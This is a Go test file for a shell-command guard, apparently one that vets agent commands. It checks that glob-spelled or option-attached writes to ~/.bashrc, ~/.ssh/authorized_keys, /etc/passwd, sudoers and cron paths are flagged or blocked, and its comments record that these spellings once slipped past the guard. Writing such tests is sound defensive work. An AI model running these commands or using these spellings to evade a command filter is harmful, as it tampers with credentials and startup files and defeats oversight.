package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestGlobWrites48: a write target spelled as a glob that may name a
// protected file is read as the delete rules read theirs (mayName), in
// the one outputs view: bash and zsh expand it to the file when it is
// there (session 48, 2026-12-05: each glob line was allowed).
func TestGlobWrites48(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cp /tmp/x ~/.[!.]ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.bash[r]c", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.?ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.bashrc", dsl.Ask, dsl.Ask},
		{"echo x > ~/.[!.]ashrc", dsl.Ask, dsl.Ask},
		{"echo x >> ~/.z[s]hrc", dsl.Ask, dsl.Ask},
		{"tee ~/.bash[r]c < /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && cp /tmp/x .[!.]ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/k ~/.s?h/authorized_keys", dsl.Ask, dsl.Ask},
		{"cp /tmp/x /etc/pass[w]d", dsl.Ask, dsl.Ask},
		{"cp /tmp/x /e?c/passwd", dsl.Ask, dsl.Ask},
		{"echo x >> /etc/sudoers.[d]/x", dsl.Block, dsl.Block},
		{"sort -o /etc/cron.?/x /tmp/x", dsl.Ask, dsl.Ask},
		// quoted, the glob is the file's own name
		{"cp /tmp/x '.bash[r]c'", dsl.Allow, dsl.Allow},
		// everyday neighbours
		{"cp *.txt backup/", dsl.Allow, dsl.Allow},
		{"echo x > out-[0-9].log", dsl.Allow, dsl.Allow},
		{"cp ~/Downloads/*.pdf ~/Documents/", dsl.Allow, dsl.Allow},
		{"tee build/*.log < /dev/null", dsl.Allow, dsl.Allow},
		{"cp notes-[0-9].md ~/Documents/", dsl.Allow, dsl.Allow},
		{"echo done > ~/Documents/report-?.txt", dsl.Allow, dsl.Allow},
	})
}

// TestAttachedAfterCd48: after a cd, the value attached to a short output
// option (-oFILE) is where the cd moved, as the separated one is
// (session 48: each attached line was allowed).
func TestAttachedAfterCd48(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cd ~ && zzprog -o.bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && zzprog -o .bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && sort -o.bashrc /tmp/x", dsl.Ask, dsl.Ask},
		{"cd /etc && sort -opasswd /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && sort --output=.bashrc /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && zzprog --output=.bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && curl -so.bashrc https://x.example/a", dsl.Ask, dsl.Ask},
		// everyday neighbours
		{"cd build && gcc -O2 -omain main.c", dsl.Allow, dsl.Allow},
		{"cd /tmp && sort -osorted.txt data.txt", dsl.Allow, dsl.Allow},
		{"cd ~ && ssh -oBatchMode=yes host true", dsl.Allow, dsl.Allow},
	})
}
